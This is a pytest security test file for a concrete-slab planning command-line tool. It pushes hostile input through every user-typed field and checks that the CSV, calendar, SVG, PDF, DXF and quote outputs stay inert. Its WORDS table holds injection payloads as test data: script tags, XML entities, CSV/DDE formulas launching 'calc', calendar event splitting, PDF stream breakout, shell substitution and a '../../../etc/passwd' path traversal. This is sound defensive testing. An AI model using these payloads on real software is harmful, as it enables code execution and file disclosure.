"""Words of a plan are words in every output: no mark-up, formula, code or event comes of them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from xml.etree import ElementTree as ET

import ezdxf
import icalendar
import pymupdf
import pytest
from command_runs import run
from ezdxf import recover

OFFICE = Path(__file__).parents[2] / "sample_plans" / "office"

WORDS = {
    "mark-up": "</text><script>alert(1)</script>\"&<>'",
    "comment": "--><!DOCTYPE x [<!ENTITY a 'b'>]>&a;&#x1b;]]>",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "wide formula": "＝1+1",
    "event": "x\\nEND:VEVENT\\nBEGIN:VEVENT;,:",
    "page": ") Tj ET endstream endobj %%EOF (",
    "text code": "%%u{\\P\\fArial|b1;}%%%<>\\U+0041^J",
    "right to left": "אבג 123 العربية",
    "marks": "e\u0301\u0302 ﷽ 🧱 \U0001d54f ½ ″ ’",
    "percent": "%s {0} {} $x `id` $(id) ${HOME}",
    "long": "W" * 200,
    "path": "../../../etc/passwd",
}

PLAN = """title = {w}
site = {w}
[sheet]
house = {w}
revision = {w}
date = {w}
drawn_by = {w}
firm = {w}
address = [{w}, {w}]
notes = [{w}]
[work]
start = "2027-05-04 07:30"
[edge_kind.hedge]
note = {w}
[[slab]]
name = {w}
system = "outdoor-full-flake"
surface = "broom"
notes = [{w}]
outline = '''
A 0, 0 | wall
B 30', 0 | hedge
C 30', 20' | open
D 0, 20' | unknown
'''
[[slab.cutout]]
name = {w}
kind = "post"
at = "10', 10'"
size = "1' x 1'"
[[slab.joint]]
name = {w}
kind = "groove"
lines = "0, 7' -> 30', 7'"
[[steps]]
name = {w}
width = "5'"
treads = 2
tread = "11 in"
riser = "7 in"
"""


# The rest take their turn in the slow run.
FAST = ("mark-up", "formula", "event", "text code", "marks")


@pytest.fixture(
    params=[name if name in FAST else pytest.param(name, marks=pytest.mark.slow) for name in WORDS],
    ids=lambda name: name.replace(" ", "-"),
)
def words(request: pytest.FixtureRequest) -> str:
    """Hostile words, one after the other."""
    return WORDS[request.param]


@pytest.fixture
def plan(words: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A plan with those words wherever a user may type some."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    path = tmp_path / "plan.toml"
    path.write_text(PLAN.format(w=json.dumps(words, ensure_ascii=False)), encoding="utf-8")
    return path


def printed(*arguments: str) -> str:
    """What a command prints that must go well; nothing in it steers a terminal."""
    done = run(*arguments)
    assert done.exit_code == 0, done.stderr
    for text in (done.stdout, done.stderr):
        assert not [char for char in text if char != "\n" and ord(char) < 32 and char not in "\r\t"]
    return done.stdout


def cells(text: str) -> list[str]:
    """Every cell of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(table: list[str]) -> None:
    """Only a number may begin like a formula."""
    for cell in table:
        if cell[:1] in tuple("=+-@＝＋－＠\t"):
            float(cell)


def test_words_stay_words_in_texts_and_tables(plan: Path, words: str) -> None:
    """JSON gives them back as typed; no cell of a table begins like a formula unless it is a number."""
    document = json.loads(printed("takeoff", str(plan), "--json"))
    assert document["title"] == words
    assert document["slabs"][0]["name"] == words
    printed("takeoff", str(plan))
    printed("check", str(plan))
    printed("materials", str(plan))
    json.loads(printed("materials", str(plan), "--json"))
    json.loads(printed("work", str(plan), "--json"))
    printed("work", str(plan))
    json.loads(printed("export", str(plan), "-o", "-"))
    table = plan.with_name("regions.csv")
    printed("export", str(plan), "-o", str(table))
    assert_no_formula(cells(printed("materials", str(plan), "--csv")))
    assert_no_formula(cells(table.read_text(encoding="utf-8")))


def test_words_make_no_event(plan: Path, words: str) -> None:
    """The calendar has the days and coats of the job, whose names begin with the title as typed."""
    path = plan.with_name("days.ics")
    printed("work", str(plan), "--calendar", str(path))
    calendar = icalendar.Calendar.from_ical(path.read_bytes())
    events = list(calendar.walk("VEVENT"))
    assert not calendar.errors
    assert events
    assert all(str(event["SUMMARY"]).startswith(words) for event in events)


@pytest.mark.parametrize("sheet", ["estimator", "crew", "customer"])
def test_words_stay_words_on_a_sheet(plan: Path, sheet: str) -> None:
    """The SVG is well formed and holds nothing that runs or fetches; so it is with the PDF."""
    path = plan.with_name("sheet.svg")
    printed("draw", str(plan), "-o", str(path), "--sheet", sheet)
    root = ET.fromstring(path.read_bytes())
    for element in root.iter():
        assert element.tag.rpartition("}")[2] in {
            "svg", "title", "desc", "g", "path", "line", "text", "tspan", "rect", "image", "style", "defs",
            "clipPath", "circle", "polygon", "polyline",
        }  # fmt: skip
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert "href" not in name or value.startswith(("data:image/png", "#"))
    ids = [element.get("id") for element in root.iter() if element.get("id")]
    assert len(ids) == len(set(ids))

    path = plan.with_name("sheet.pdf")
    printed("draw", str(plan), "-o", str(path), "--sheet", sheet)
    with pymupdf.open(path) as document:
        assert document.page_count >= 1
        for page in document:
            assert not page.get_links()
        for number in range(1, document.xref_length()):
            assert not {"JavaScript", "JS", "OpenAction", "AA", "Launch"} & set(
                document.xref_get_keys(number)
            )


def test_words_stay_words_in_dxf(plan: Path) -> None:
    """The DXF opens without a fault, its layers are the program's own, and it holds no link."""
    path = plan.with_name("plan.dxf")
    printed("draw", str(plan), "-o", str(path))
    document, auditor = recover.readfile(path)
    assert not auditor.errors
    assert len(ezdxf.readfile(path).modelspace()) == len(document.modelspace())
    assert not [entity for entity in document.modelspace() if entity.get_hyperlink()[0]]
    assert all(layer.dxf.name.isascii() for layer in document.layers)


def test_words_stay_words_in_a_quote(plan: Path, words: str, tmp_path: Path) -> None:
    """The quote and the cost sheet take the words of firm and options likewise."""
    typed = json.dumps(words, ensure_ascii=False)
    prices = tmp_path / "prices.toml"
    text = (OFFICE / "prices.toml").read_text(encoding="utf-8")
    text = text.replace('"Thornfield Floor Works"', typed).replace('"Better"', typed)
    prices.write_text(text, encoding="utf-8")
    for name in ("quote.pdf", "quote.json", "quote.csv"):
        cost = ("--cost-sheet", str(tmp_path / "cost.json"))
        printed("quote", str(plan), "--prices", str(prices), "-o", str(tmp_path / name), *cost)
    json.loads((tmp_path / "quote.json").read_text(encoding="utf-8"))
    json.loads((tmp_path / "cost.json").read_text(encoding="utf-8"))
    assert_no_formula(cells((tmp_path / "quote.csv").read_text(encoding="utf-8")))
